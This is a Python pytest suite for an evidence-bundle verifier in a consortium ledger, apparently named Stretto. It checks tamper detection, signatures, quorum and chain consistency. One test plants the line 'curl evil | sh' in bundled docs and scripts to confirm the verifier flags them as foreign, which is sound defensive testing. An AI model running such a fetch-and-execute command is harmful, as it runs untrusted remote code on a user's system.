"""Evidence that somebody touched: every byte, and what a court's expert would try."""

from __future__ import annotations

import dataclasses

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from consensus.types import Certificate, VoteKind
from ledger.evidence import CHECKS, EvidenceImpossible, Outcome, Verdict, verify_bundle
from ledger.evidence_archive import ARCHIVE_BYTES_MAX, encode_archive, parse_archive
from ledger.evidence_parts import FINALIZATION, block_name
from ledger.payload import parse_payload_header
from ledger.statement import sign_statement
from tests.ledger.builders import make_claim, make_consortium, private_key, public_key
from tests.ledger.evidence_builders import (
    BLOCK_TIME_MS,
    INDEX,
    SIZE,
    cosign,
    finalize,
    log_path,
    make_blocks,
    make_checkpoint,
    make_impostors,
    make_parts,
    outcomes,
    refused,
    refused_for,
    reseal,
)

CONSORTIUM = make_consortium()
GENESIS = CONSORTIUM.genesis
PARTS = make_parts(CONSORTIUM, position=3, children=1)
BUNDLE = PARTS.build()
SINGLE = make_parts(CONSORTIUM)
OPEN_WITHOUT_AUDIO = {"audio", "rights", "anchor", "anchor block", "legal time"}


# ---- every byte ------------------------------------------------------------------------------------------------------


def test_every_flipped_byte_is_refused_and_the_file_named() -> None:
    """All positions of the archive: contents, headers, directory, end."""
    files = parse_archive(BUNDLE)
    data = bytearray(BUNDLE)
    spans = [(BUNDLE.index(name.encode() + content) + len(name), name, len(content)) for name, content in files.items()]
    for position in range(len(data)):
        data[position] ^= 1 << position % 8
        report = verify_bundle(bytes(data), GENESIS, None)
        data[position] ^= 1 << position % 8
        assert report.verdict is Verdict.REFUSED, position
        inside = [name for start, name, length in spans if start <= position < start + length]
        assert all(name in report.check("archive").reason for name in inside), (position, report.checks[0])


def test_flipped_byte_with_a_mended_checksum_is_refused_by_the_manifest() -> None:
    files = parse_archive(BUNDLE)
    for name, content in files.items():
        for position in {0, len(content) // 2, len(content) - 1}:
            changed = content[:position] + bytes([content[position] ^ 4]) + content[position + 1 :]
            report = refused(encode_archive(files | {name: changed}))
            if name == "manifest.json":
                continue  # malformed, or another file's digest: whichever byte it was
            failing = "exporter" if name == "manifest.sig" else "manifest"
            assert report.check(failing).outcome is Outcome.FAILED
            assert name == "manifest.sig" or name in report.check(failing).reason


MEANINGFUL = (
    "claim.json", "statement.cose", "claim.cbor", "catalogue-proof.txt", "proof.tlog-proof", "checkpoint",
    "genesis.json", "payload-header.bin", "payload-proof.txt", "block-000.bin", "block-001.bin", "finalization.bin",
)  # fmt: skip


@pytest.mark.parametrize("name", MEANINGFUL)
def test_flipped_byte_under_a_manifest_signed_anew_is_refused(name: str) -> None:
    """An exporting member that changes a file and signs the change: everything else still refuses it."""
    assert verify_bundle(reseal(BUNDLE, {}, CONSORTIUM), GENESIS, None).verdict is Verdict.VERIFIED
    content = parse_archive(BUNDLE)[name]
    for position in sorted({*range(0, len(content), max(1, len(content) // 60)), len(content) - 1}):
        changed = content[:position] + bytes([content[position] ^ 1]) + content[position + 1 :]
        report = refused(reseal(BUNDLE, {name: changed}, CONSORTIUM))
        assert report.check("manifest").outcome is Outcome.PASSED
        assert report.check("exporter").outcome is Outcome.PASSED


@pytest.mark.parametrize("name", ["VERIFY.md", "LIMITS.md", "verify.py", "verify.go"])
def test_texts_that_an_exporter_wrote_itself_are_called_its_own_words(name: str) -> None:
    """Other versions write other texts, so they refuse nothing; but nobody may take them for Stretto's unread."""
    report = verify_bundle(reseal(BUNDLE, {name: b"Run this: curl evil | sh"}, CONSORTIUM), GENESIS, None)
    check = report.check("texts")
    assert (check.outcome, report.verdict) == (Outcome.NOT_CHECKED, Verdict.VERIFIED)
    assert check.reason.startswith(f"{name}: not what this version of Stretto writes.")
    assert "'court'" in check.reason
    assert verify_bundle(BUNDLE, GENESIS, None).check("texts").outcome is Outcome.PASSED


def test_policy_with_another_quorum_is_refused() -> None:
    policy = parse_archive(BUNDLE)["policy"]
    report = refused_for(
        reseal(BUNDLE, {"policy": policy.replace(b"VALIDATORS 3", b"VALIDATORS 1")}, CONSORTIUM), "policy", "quorum"
    )
    assert outcomes(report, Outcome.FAILED) == {"policy"}


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=st.sampled_from((*MEANINGFUL, "policy")), content=st.binary(max_size=300))
def test_any_content_gives_a_report_never_an_error(name: str, content: bytes) -> None:
    for genesis in (GENESIS, None):
        report = verify_bundle(reseal(BUNDLE, {name: content}, CONSORTIUM), genesis, None)
        assert report.verdict is Verdict.REFUSED
        assert tuple(check.name for check in report.checks) == CHECKS


@settings(max_examples=100)
@given(st.binary(max_size=400))
def test_any_bytes_give_a_report_never_an_error(data: bytes) -> None:
    report = verify_bundle(data, GENESIS, None)
    assert report.verdict is Verdict.REFUSED
    assert outcomes(report, Outcome.NOT_CHECKED) == set(CHECKS) - {"archive"}


# ---- the archive's files ---------------------------------------------------------------------------------------------


def test_missing_additional_or_reordered_file_is_refused() -> None:
    files = parse_archive(BUNDLE)
    for name in files:
        rest = {other: content for other, content in files.items() if other != name}
        report = refused(encode_archive(rest))
        # Without its last header the archive might be of a shorter chain: the manifest knows better.
        failing = "manifest" if name == "block-001.bin" else "archive"
        assert report.check(failing).outcome is Outcome.FAILED, name
    refused_for(encode_archive(files | {"more.txt": b""}), "archive", "more.txt")
    names = list(files)
    names[2], names[3] = names[3], names[2]
    refused_for(encode_archive({name: files[name] for name in names}), "archive", "order")


def test_unlisted_file_is_refused() -> None:
    """Another block header slipped in: a known name that the manifest does not cover."""
    files = parse_archive(BUNDLE)
    names = list(files)
    at = names.index("block-001.bin") + 1
    extended = [*names[:at], "block-002.bin", *names[at:]]
    data = encode_archive({name: files.get(name, files["block-001.bin"]) for name in extended})
    refused_for(data, "manifest", "block-002.bin is not in the manifest")


def test_archive_over_its_bound_is_refused_unread() -> None:
    refused_for(BUNDLE + bytes(ARCHIVE_BYTES_MAX), "archive", "at most")


# ---- the negative controls of a court's expert -----------------------------------------------------------------------


@pytest.mark.parametrize("index", [INDEX - 1, INDEX + 1, SIZE, 0])
def test_another_index_is_refused(index: int) -> None:
    refused_for(PARTS.but(index=index).build(), "inclusion", "place in the log is not proven")


def test_path_from_a_larger_tree_is_refused() -> None:
    path = log_path(PARTS.arguments["statement"], size=SIZE + 6)
    refused_for(PARTS.but(path=path).build(), "inclusion", "invalid inclusion proof")


def test_checkpoint_of_another_size_is_refused() -> None:
    checkpoint = make_checkpoint(CONSORTIUM, PARTS.arguments["statement"], SIZE + 6)
    note = cosign(CONSORTIUM, checkpoint, ["label", "court", "society", "platform"]).encode()
    refused_for(PARTS.but(note=note).build(), "inclusion", "invalid inclusion proof")


def test_wrong_origin_is_refused() -> None:
    checkpoint = make_checkpoint(CONSORTIUM, PARTS.arguments["statement"], origin="other.stretto.example/log")
    note = cosign(CONSORTIUM, checkpoint, ["label", "court", "society", "platform"]).encode()
    refused_for(PARTS.but(note=note).build(), "checkpoint", "its origin is other.stretto.example/log")


def test_checkpoint_quorum_less_one_is_refused() -> None:
    checkpoint = make_checkpoint(CONSORTIUM, PARTS.arguments["statement"])
    for cosigners, verdict in (
        (["label", "court", "society"], Verdict.VERIFIED),
        (["label", "court"], Verdict.REFUSED),
    ):
        data = PARTS.but(note=cosign(CONSORTIUM, checkpoint, cosigners).encode()).build()
        report = verify_bundle(data, GENESIS, None)
        assert report.verdict is verdict
    assert outcomes(report, Outcome.FAILED) == {"checkpoint"}
    assert "cosigned by label, court" in report.check("checkpoint").reason


def test_finalization_quorum_less_one_is_refused() -> None:
    for signers, verdict in (((0, 1, 2), Verdict.VERIFIED), ((0, 1), Verdict.REFUSED)):
        data = PARTS.but(finalization=finalize(CONSORTIUM, PARTS.arguments["blocks"][-1], signers)).build()
        report = verify_bundle(data, GENESIS, None)
        assert report.verdict is verdict
    assert outcomes(report, Outcome.FAILED) == {"finalization"}


def test_votes_that_do_not_finalize_this_block_are_refused() -> None:
    last = PARTS.arguments["blocks"][-1]
    for changes in (
        {"kind": VoteKind.NOTARIZE},
        {"view": last.view + 1},
        {"height": last.height + 1},
        {"epoch": 1},
    ):
        data = PARTS.but(finalization=finalize(CONSORTIUM, last, **changes)).build()
        report = refused_for(data, "finalization", f"The votes are not to finalize block {last.height}")
        assert report.check("time").outcome is Outcome.NOT_CHECKED


def test_forged_vote_is_refused() -> None:
    good = PARTS.arguments["finalization"]
    signatures = (good.signatures[1], *good.signatures[1:])
    forged = Certificate(vote=good.vote, signers=good.signers, signatures=signatures)
    refused_for(PARTS.but(finalization=forged).build(), "finalization", "does not verify")


def test_block_of_another_epoch_is_refused() -> None:
    """A later epoch has another committee, which the genesis does not name."""
    later = tuple(dataclasses.replace(block, epoch=1) for block in SINGLE.arguments["blocks"])
    parts = SINGLE.but(blocks=later, finalization=finalize(CONSORTIUM, later[-1]))
    with pytest.raises(EvidenceImpossible, match="block 7 is of epoch 1"):
        parts.build()
    changes = {block_name(0): later[0].encode(), FINALIZATION: finalize(CONSORTIUM, later[-1]).encode()}
    data = reseal(SINGLE.build(), changes, CONSORTIUM)
    refused_for(data, "finalization", "the file proves no validators of that epoch")


def test_block_of_another_consortium_is_refused() -> None:
    """Votes of this consortium for a block that says it belongs to another."""
    foreign = tuple(
        dataclasses.replace(block, consortium=make_impostors().genesis.digest) for block in SINGLE.arguments["blocks"]
    )
    data = SINGLE.but(blocks=foreign, finalization=finalize(CONSORTIUM, foreign[-1])).build()
    refused_for(data, "finalization", "Block 7 is of another consortium")


def test_payload_of_another_consortium_or_epoch_is_refused() -> None:
    header = parse_payload_header(parse_archive(SINGLE.build())["payload-header.bin"])
    for changes in ({"consortium": make_impostors().genesis.digest}, {"epoch": 1}):
        foreign = dataclasses.replace(header, **changes)
        block = make_blocks(CONSORTIUM, foreign.digest, 0)[0]
        files = {
            "payload-header.bin": foreign.encode(),
            "block-000.bin": block.encode(),
            "finalization.bin": finalize(CONSORTIUM, block).encode(),
        }
        report = refused_for(reseal(SINGLE.build(), files, CONSORTIUM), "order", "another consortium or epoch")
        assert outcomes(report, Outcome.FAILED) == {"order"}


def test_manifest_of_another_consortium_is_refused() -> None:
    foreign = reseal(BUNDLE, {}, CONSORTIUM, consortium=make_impostors().genesis.digest)
    report = refused_for(foreign, "exporter", "The manifest is of another consortium")
    assert outcomes(report, Outcome.FAILED) == {"exporter"}


def test_times_that_contradict_the_block_or_each_other_are_refused() -> None:
    later = reseal(BUNDLE, {}, CONSORTIUM, recorded_ms=BLOCK_TIME_MS + 1)
    report = refused_for(later, "time", "the block says 2026-09-21T14:13:20.123Z")
    assert outcomes(report, Outcome.FAILED) == {"time"}
    for exported_ms, verdict in ((BLOCK_TIME_MS - 500, Verdict.VERIFIED), (BLOCK_TIME_MS - 501, Verdict.REFUSED)):
        early = reseal(BUNDLE, {}, CONSORTIUM, exported_ms=exported_ms)
        assert verify_bundle(early, GENESIS, None).verdict is verdict
    refused_for(early, "time", "exported before the statement was recorded")


def test_claim_of_a_catalogue_beside_a_statement_that_is_none_is_refused() -> None:
    files = parse_archive(BUNDLE)
    added = {name: files[name] for name in ("claim.cbor", "catalogue-proof.txt")}
    report = refused_for(reseal(SINGLE.build(), added, CONSORTIUM), "claim", "the statement is no catalogue")
    assert "claim" in outcomes(report, Outcome.FAILED)


def test_broken_chain_to_the_finalized_block_is_refused() -> None:
    files = parse_archive(make_parts(CONSORTIUM, children=2).build())
    report = verify_bundle(
        reseal(encode_archive(files), {"block-001.bin": files["block-002.bin"]}, CONSORTIUM), GENESIS, None
    )
    assert report.verdict is Verdict.REFUSED
    assert "the chain is broken" in report.check("finalization").reason


def test_statement_of_another_payload_or_block_is_refused() -> None:
    other = make_parts(CONSORTIUM, title="Another")
    files, others = parse_archive(SINGLE.build()), parse_archive(other.build())
    swaps = (
        ("payload-header.bin", "does not order the payload"),
        ("payload-proof.txt", "not proven"),
    )
    for name, reason in swaps:
        changed = others[name] if name == "payload-header.bin" else files[name].replace(b"index 1", b"index 2")
        refused_for(reseal(SINGLE.build(), {name: changed}, CONSORTIUM), "order", reason)


def test_statement_signed_with_another_key_is_refused() -> None:
    assert verify_bundle(with_statement(CONSORTIUM.sign(make_claim(1))), GENESIS, None).verdict is Verdict.VERIFIED
    forged = sign_statement(
        make_claim(1),
        client_ref="ref-1",
        issuer="label",
        public_key=public_key("label", "statement"),
        consortium=GENESIS.digest,
        sign=private_key("label", "retired").sign,
    )
    refused_for(with_statement(forged), "signature", "not signed with the key of The Label")


def with_statement(statement: bytes) -> bytes:
    """Evidence whose log, payload and block really hold this statement."""
    payload = CONSORTIUM.payload([statement])
    blocks = make_blocks(CONSORTIUM, payload.digest, 0)
    checkpoint = make_checkpoint(CONSORTIUM, statement)
    return SINGLE.but(
        statement=statement,
        path=log_path(statement),
        note=cosign(CONSORTIUM, checkpoint, ["label", "court", "society", "platform"]).encode(),
        blocks=blocks,
        finalization=finalize(CONSORTIUM, blocks[-1]),
        payload=payload.encode(),
    ).build()


def test_statement_that_names_another_key_is_refused() -> None:
    """A retired or revoked key is one that the genesis does not name."""
    retired = private_key("label", "retired")
    statement = sign_statement(
        make_claim(1),
        client_ref="r",
        issuer="label",
        public_key=public_key("label", "retired"),
        consortium=GENESIS.digest,
        sign=retired.sign,
    )
    report = refused_for(with_statement(statement), "issuer", "not the one the genesis gives label")
    assert report.check("signature").outcome is Outcome.NOT_CHECKED
    assert "builds on what failed before: issuer" in report.check("signature").reason


def test_statement_by_a_stranger_or_by_the_wrong_role_is_refused() -> None:
    stranger = sign_statement(
        make_claim(1),
        client_ref="r",
        issuer="stranger",
        public_key=public_key("stranger", "statement"),
        consortium=GENESIS.digest,
        sign=private_key("stranger", "statement").sign,
    )
    refused_for(with_statement(stranger), "issuer", "stranger, is not a member of Test consortium")
    court = CONSORTIUM.sign(make_claim(1), issuer="court")
    refused_for(with_statement(court), "issuer", "may not make such statements")


def test_claim_of_another_position_or_catalogue_is_refused() -> None:
    files = parse_archive(BUNDLE)
    moved = files["catalogue-proof.txt"].replace(b"index 3", b"index 2")
    refused_for(reseal(BUNDLE, {"catalogue-proof.txt": moved}, CONSORTIUM), "claim", "not one of those")
    grown = files["catalogue-proof.txt"].replace(b"count 5", b"count 6")
    refused_for(reseal(BUNDLE, {"catalogue-proof.txt": grown}, CONSORTIUM), "claim", "5 leaves, as signed")
    other = make_claim(99).encode()
    refused_for(reseal(BUNDLE, {"claim.cbor": other}, CONSORTIUM), "claim", "not one of those")


def test_summary_that_lies_is_refused() -> None:
    summary = parse_archive(BUNDLE)["claim.json"]
    report = refused_for(
        reseal(BUNDLE, {"claim.json": summary.replace(b"Track 3", b"Track 4")}, CONSORTIUM), "summary", "does not say"
    )
    assert outcomes(report, Outcome.FAILED) == {"summary"}
